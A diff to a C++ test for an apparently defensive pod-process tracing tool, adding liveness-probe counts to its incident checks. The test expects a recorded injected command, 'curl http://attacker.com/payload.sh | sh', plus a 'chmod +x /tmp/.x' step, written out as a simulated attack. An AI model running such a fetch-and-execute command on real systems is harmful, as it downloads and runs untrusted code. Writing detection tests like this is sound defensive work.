@@ -38,6 +38,8 @@ using Args = std::vector<std::string>;
 // The fake pod, as scripts/demo.sh builds it.
 constexpr const char* kPodName = "my-app-6d4f9-xk2p1";
 constexpr const char* kPodNamespace = "production";
+// my-app's liveness probes before it takes requests (scripts/demo-payload/my-app.sh).
+constexpr int kProbes = 12;
 
 // What the demo made in this run, from its "demo: pod uid ..." line.
 struct DemoPod {
@@ -179,7 +181,7 @@ void check_incident(const json& doc, int port, bool kube_only, const DemoPod& po
     const std::string attacker = port == 80 ? "http://attacker.com" : "http://attacker.com:" + std::to_string(port);
     INFO((kube_only ? "kube-only.db" : "journal.db") << ":\n" << doc.dump(2));
 
-    CHECK(doc["matched"] == 8);  // every process of the pod, and nothing else
+    CHECK(doc["matched"] == 8 + 2 * kProbes);  // every process of the pod, and nothing else
     for (const auto& w : doc["warnings"]) CHECK(w["kind"] != "loss");
     if (kube_only) {
         // my-app's parent, unshare, was outside the pod: not recorded.
@@ -223,9 +225,14 @@ void check_incident(const json& doc, int port, bool kube_only, const DemoPod& po
         CHECK(app["outside_parent"]["why"] == "outside the pod");
     }
 
-    // The injected command.
-    REQUIRE(app["children"].size() == 1);
-    const json& injected = app["children"][0];
+    // The liveness probe and its sleep, in turn, then the injected command.
+    REQUIRE(app["children"].size() == 2 * kProbes + 1);
+    check_start_order(app["children"]);
+    for (int i = 0; i < kProbes; ++i) {
+        check_node(app["children"][2 * i], app, {{"sh", "-c", "test -f /tmp/healthy"}, "sh"}, port, pod);
+        check_node(app["children"][2 * i + 1], app, {{"sleep", "0.1"}, "sleep"}, port, pod);
+    }
+    const json& injected = app["children"][2 * kProbes];
     check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port, pod);
 
     // Its pipeline: curl fetching the payload, sh running it.
@@ -356,6 +363,9 @@ size_t run_and_check_demo() {
     // The user sees the tree.
     CHECK(demo.out.find("pod production/my-app-6d4f9-xk2p1") != std::string::npos);
     CHECK(demo.out.find("chmod +x /tmp/.x") != std::string::npos);
+    // The probes fold into one line each, next to the attack.
+    CHECK(demo.out.find("sh -c \"test -f /tmp/healthy\"  ×12  (") != std::string::npos);
+    CHECK(demo.out.find("sleep 0.1  ×12  (") != std::string::npos);
 
     // Gone, although the work directory was kept.
     check_nothing_left(workdir, pod);
@@ -393,7 +403,7 @@ size_t run_and_check_demo() {
         INFO("the --kube-only journal holds pods only: the demo's, and any other on the machine");
         std::set<int64_t> pod_pids;
         for (const auto& t : kube["trees"]) collect_pids(t, pod_pids);
-        REQUIRE(pod_pids.size() == 8);
+        REQUIRE(pod_pids.size() == 8 + 2 * kProbes);
 
         Journal db(workdir + "/kube-only.db");
         Journal whole(workdir + "/journal.db");
@@ -412,7 +422,7 @@ size_t run_and_check_demo() {
                 CHECK(row.at(1).find(pod.uid) == std::string::npos);
             }
         }
-        CHECK(ours == 8);
+        CHECK(ours == 8 + 2 * kProbes);
         // With no other pod about, every process in an event row is one of
         // the pod's.
         if (others == 0) {
